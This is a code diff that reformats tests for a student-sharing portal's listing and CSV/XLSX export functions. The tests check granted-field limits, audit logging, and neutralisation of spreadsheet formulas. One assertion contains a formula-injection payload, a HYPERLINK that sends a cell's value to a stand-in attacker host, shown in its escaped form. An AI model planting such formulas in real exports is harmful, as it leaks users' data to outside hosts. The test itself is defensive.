@@ -24,8 +24,13 @@ beforeAll(async () => {
 });
 afterAll(async () => t?.cleanup());
 
-const lastAudit = async (action: string) => (await t.db.query<{ details: Record<string, unknown>; actor_id: string }>(
-  'select details, actor_id from public.audit_events where action = $1 order by id desc limit 1', [action]))[0]!;
+const lastAudit = async (action: string) =>
+  (
+    await t.db.query<{ details: Record<string, unknown>; actor_id: string }>(
+      'select details, actor_id from public.audit_events where action = $1 order by id desc limit 1',
+      [action],
+    )
+  )[0]!;
 
 it('the portal lists exactly the granted fields and audits the view with office, fields and count', async () => {
   const r = await listSharedStudents({ access: await loadAccess(reader.ctx), input: {} });
@@ -47,14 +52,21 @@ it('the portal lists exactly the granted fields and audits the view with office,
 async function readAll(s: ReadableStream<Uint8Array>): Promise<Buffer> {
   const chunks: Uint8Array[] = [];
   const reader = s.getReader();
-  for (;;) { const { done, value } = await reader.read(); if (done) break; chunks.push(value); }
+  for (;;) {
+    const { done, value } = await reader.read();
+    if (done) break;
+    chunks.push(value);
+  }
   return Buffer.concat(chunks);
 }
 
 it('CSV export has only granted columns, neutralises formula-like cells, and is audited with count and fields', async () => {
   const { stream } = await exportSharedStudents({ access: await loadAccess(reader.ctx), input: {}, format: 'csv', header: (f) => f });
   const text = (await readAll(stream)).toString('utf8');
-  const lines = text.replace(/^\uFEFF/, '').trim().split('\r\n');
+  const lines = text
+    .replace(/^\uFEFF/, '')
+    .trim()
+    .split('\r\n');
   expect(lines[0]).toBe('student_number,name');
   expect(lines).toHaveLength(5);
   expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")"`);
@@ -71,7 +83,10 @@ it('XLSX export writes neutralised text cells only, no formulas', async () => {
   const ws = wb.worksheets[0]!;
   expect(ws.getRow(1).values).toEqual([undefined, 'student_number', 'name']);
   const names: unknown[] = [];
-  ws.eachRow((row, n) => { if (n > 1) names.push(row.getCell(2).value); row.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)); });
+  ws.eachRow((row, n) => {
+    if (n > 1) names.push(row.getCell(2).value);
+    row.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula));
+  });
   expect(names).toContain(`'${EVIL}`);
   expect((await lastAudit('sharing.export')).details).toMatchObject({ format: 'xlsx', count: 4 });
 });
@@ -85,5 +100,7 @@ it('a grant change is audited with before and after, and a repeated save is a no
   const r = await listSharedStudents({ access: await loadAccess(reader.ctx), input: { cohort: '2024' } });
   expect(r.total).toBe(3);
   await expect(setOfficeGrant({ access: a, input: { officeId: office.id, fields: ['password'] as never } })).rejects.toMatchObject({ code: 'invalid_input' });
-  await expect(setOfficeGrant({ access: await loadAccess(reader.ctx), input: { officeId: office.id, fields: ['phone'] } })).rejects.toMatchObject({ code: 'forbidden' });
+  await expect(setOfficeGrant({ access: await loadAccess(reader.ctx), input: { officeId: office.id, fields: ['phone'] } })).rejects.toMatchObject({
+    code: 'forbidden',
+  });
 });
